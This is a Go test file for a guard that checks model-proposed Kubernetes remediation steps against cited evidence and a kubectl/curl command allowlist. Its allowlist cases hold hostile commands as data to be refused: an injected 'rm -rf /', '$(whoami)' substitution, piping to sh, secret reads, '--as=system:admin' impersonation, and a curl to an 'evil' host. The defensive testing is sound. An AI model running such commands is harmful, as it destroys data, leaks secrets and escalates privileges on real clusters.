package analysis

import (
	"strings"
	"testing"

	"github.com/meshwatch/meshwatch/pkg/findings"
)

func TestGuardMarksUnsupportedClaimsAndFlagsUnknownWorkloads(t *testing.T) {
	p, fs := samplePack()
	mem, rst := p.Metrics[0].ID, p.Metrics[1].ID
	a := Answer{
		Summary:    "checkout's sidecar leaks",
		RootCause:  RootCause{Namespace: "shop", Workload: "checkout", Cause: findings.SidecarMemoryLeak, Evidence: []string{mem, rst}},
		Confidence: "high",
		Remediation: []Step{
			{Action: "Restart checkout", Why: "frees the proxy's memory", Evidence: []string{mem},
				Command: "kubectl rollout restart deployment/checkout -n shop", Risk: "medium"},
			{Action: "Check the pods", Why: "see restarts", Evidence: nil, Command: "kubectl get pods -n shop", Risk: "low"},
			{Action: "Restart payments", Why: "it may be involved", Evidence: []string{"smem-ffffff"},
				Command: "kubectl rollout restart deployment/payments -n shop", Risk: "medium"},
			{Action: "Scale shop/inventory up", Why: "more room", Evidence: []string{rst}, Command: "kubectl scale deployment/checkout --replicas=3 -n shop", Risk: "medium"},
		},
	}
	v := Guard(a, &p, fs)
	if !v.RootCause.Supported || len(v.RootCause.Cited) != 2 {
		t.Errorf("root cause: %+v", v.RootCause)
	}
	s := v.Steps
	if !s[0].Supported || !s[0].Runnable || string(s[0].Action.Kind) != string(ActionRolloutRestart) || s[0].Action.Name != "checkout" {
		t.Errorf("step 0 (cited restart of a known Deployment): %+v", s[0])
	}
	if s[1].Supported || s[1].Reasons[0] != "cites no evidence" || !s[1].Runnable {
		t.Errorf("step 1 (uncited read): %+v", s[1])
	}
	if s[2].Supported || s[2].Unknown[0] != "smem-ffffff" || s[2].Runnable || s[2].UnknownWorkloads[0] != "shop/payments" ||
		!strings.Contains(s[2].CommandReason, "does not hold") {
		t.Errorf("step 2 (unknown id, unknown workload): %+v", s[2])
	}
	if s[3].Runnable || !strings.Contains(s[3].CommandReason, "kubectl scale is not allowed") || s[3].UnknownWorkloads[0] != "shop/inventory" {
		t.Errorf("step 3 (scale, text names an unknown workload): %+v", s[3])
	}
	if v.Unsupported != 2 || v.Flagged != 2 {
		t.Errorf("counts: %d unsupported, %d flagged", v.Unsupported, v.Flagged)
	}

	// A root cause about a workload the evidence does not hold, citing
	// nothing.
	a.RootCause = RootCause{Namespace: "shop", Workload: "ledger", Cause: findings.AppMemoryOOM}
	v = Guard(a, &p, fs)
	if v.RootCause.Supported || v.RootCause.UnknownWorkloads[0] != "shop/ledger" {
		t.Errorf("invented root cause: %+v", v.RootCause)
	}
	// Insufficient evidence needs no citation.
	v = Guard(Answer{Summary: "not enough data", RootCause: RootCause{Cause: findings.None}, Confidence: "low"}, &p, fs)
	if !v.RootCause.Supported || v.Unsupported != 0 || v.Flagged != 0 {
		t.Errorf("insufficient evidence: %+v", v)
	}
}

func TestAllowlist(t *testing.T) {
	for _, tc := range []struct {
		cmd  string
		kind string // "" refused
		want string // in the reason when refused, or the action's name
	}{
		{"kubectl get pods -n shop -o wide", string(ActionKubectlRead), ""},
		{"kubectl logs deploy/checkout -c istio-proxy -n shop --tail=100", string(ActionKubectlRead), "checkout"},
		{"kubectl describe pod checkout-7c9-abcde -n shop", string(ActionKubectlRead), ""},
		{"kubectl top pods -n shop --containers", string(ActionKubectlRead), ""},
		{"kubectl events -n shop --for deployment/checkout", string(ActionKubectlRead), "checkout"},
		{"kubectl rollout restart deployment/checkout -n shop", string(ActionRolloutRestart), "checkout"},
		{"kubectl rollout restart deploy checkout --namespace=shop", string(ActionRolloutRestart), "checkout"},
		{`curl -s -X POST -d '{"name":"reviews","namespace":"shop"}' http://flagger-loadtester.test/gate/open`, string(ActionFlaggerGate), "reviews"},
		{`curl -X POST -H 'Content-Type: application/json' -d '{"name":"reviews","namespace":"shop"}' http://lt:80/rollback/open`, string(ActionFlaggerGate), "reviews"},

		{"kubectl rollout restart deployment/checkout", "", "needs its namespace"},
		{"kubectl rollout restart deployment/a deployment/b -n shop", "", "exactly one Deployment"},
		{"kubectl rollout restart statefulset/db -n shop", "", "one Deployment"},
		{"kubectl delete pod x -n shop", "", "kubectl delete is not allowed"},
		{"kubectl get secrets -n shop -o yaml", "", "secrets"},
		{"kubectl get secret/db-creds -n shop", "", "secrets"},
		{"kubectl get pods --as=system:admin", "", "--as"},
		{"kubectl logs -f checkout -n shop", "", "-f"},
		{"kubectl get pods -n shop; rm -rf /", "", "shell syntax"},
		{"kubectl get pods -n $(whoami)", "", "shell syntax"},
		{`kubectl get pods -n "$NS"`, "", "shell expansion"},
		{"kubectl get pods | sh", "", "shell syntax"},
		{"bash -c 'kubectl get pods'", "", "not an allowed program"},
		{`curl -X POST -d '{"name":"reviews","namespace":"shop"}' http://lt/gate/halt`, "", "not a Flagger gate"},
		{`curl -X DELETE -d '{"name":"reviews","namespace":"shop"}' http://lt/gate/open`, "", "with POST"},
		{`curl -X POST -d '{"name":"reviews"}' http://lt/gate/open`, "", "needs the body"},
		{`curl -o /tmp/x http://lt/gate/open`, "", "not allowed"},
		{`curl -X POST -d '{"name":"reviews","namespace":"shop"}' http://lt/gate/open http://evil/`, "", "more than one URL"},
	} {
		act, err := Allowlist(tc.cmd)
		switch {
		case tc.kind == "" && (err == nil || !strings.Contains(err.Error(), tc.want)):
			t.Errorf("%s: want refused saying %q, got %+v %v", tc.cmd, tc.want, act, err)
		case tc.kind != "" && (err != nil || string(act.Kind) != tc.kind || act.Name != tc.want):
			t.Errorf("%s: want %s %q, got %+v %v", tc.cmd, tc.kind, tc.want, act, err)
		}
	}
}

func TestCanaryGateNamesACanaryTheEvidenceHolds(t *testing.T) {
	p, fs := samplePack()
	p.Scope = append(p.Scope, p.Scope[0])
	p.Scope[1].Workload.Workload, p.Scope[1].Role = "checkout-primary", "version"
	a := Answer{Summary: "x", RootCause: RootCause{Cause: findings.None}, Confidence: "low", Remediation: []Step{
		{Action: "roll back", Why: "5xx", Evidence: []string{p.Metrics[0].ID}, Risk: "low",
			Command: `curl -X POST -d '{"name":"checkout","namespace":"shop"}' http://lt/rollback/open`},
		{Action: "roll back", Why: "5xx", Evidence: []string{p.Metrics[0].ID}, Risk: "low",
			Command: `curl -X POST -d '{"name":"cart","namespace":"shop"}' http://lt/rollback/open`},
	}}
	v := Guard(a, &p, fs)
	if !v.Steps[0].Runnable || v.Steps[0].Action.Gate != "/rollback/open" || v.Steps[1].Runnable {
		t.Errorf("%+v", v.Steps)
	}
}

func TestCleanQuotesUntrustedText(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"plain", "plain"},
		{"line one\nline two\r\n\tthree", "line one line two three"},
		{"bell\x07 esc\x1b[31m red", "bell esc[31m red"},
		{"rtl \u202eevil\u202c zero\u200bwidth", "rtl evil zerowidth"},
		{"para\u2029graph", "para graph"},
		{"bad \xff utf8", "bad utf8"},
	} {
		if got := Clean(tc.in, 100); got != tc.want {
			t.Errorf("Clean(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
	if got := Clean(strings.Repeat("é", 100), 11); got != "éééé…" || len(got) > 11 {
		t.Errorf("cut: %q", got)
	}
}

// The schema lists the properties in the order the model should write
// them (Ollama's grammar follows it): summary first, the root cause before
// the steps.
func TestSchemaOrderAndParse(t *testing.T) {
	sch := string(Schema([]string{"rst-123456"}))
	order := []string{`"summary"`, `"rootCause"`, `"namespace"`, `"workload"`, `"cause"`, `"explanation"`, `"evidence"`, `"confidence"`,
		`"remediation"`, `"action"`, `"why"`, `"command"`, `"risk"`}
	at := -1
	for _, k := range order {
		i := strings.Index(sch[at+1:], k)
		if i < 0 {
			t.Fatalf("%s missing or out of order in %s", k, sch)
		}
		at += 1 + i
	}
	if !strings.Contains(sch, `"enum":["rst-123456"]`) || !strings.Contains(sch, `"enum":["sidecar-memory-leak",`) || !strings.Contains(sch, `"none"]`) {
		t.Errorf("enums: %s", sch)
	}
	if _, err := ParseAnswer(`{"summary":"s","rootCause":{"cause":"none"},"confidence":"low","remediation":[]} trailing`); err == nil {
		t.Error("text after the object accepted")
	}
	if a, err := ParseAnswer(` {"summary":"s","rootCause":{"cause":"none"},"confidence":"low","remediation":[]}` + "\n"); err != nil || !a.Insufficient() {
		t.Errorf("insufficient evidence is a valid answer: %v", err)
	}
	if _, err := ParseAnswer(`{"summary":"","rootCause":{"cause":"crashloop"},"confidence":"sure","remediation":[{"action":"","risk":"none"}]}`); err == nil ||
		!strings.Contains(err.Error(), "summary is empty") || !strings.Contains(err.Error(), `confidence "sure"`) ||
		!strings.Contains(err.Error(), "remediation[0].action is empty") || !strings.Contains(err.Error(), `remediation[0].risk "none"`) {
		t.Errorf("problems: %v", err)
	}
}
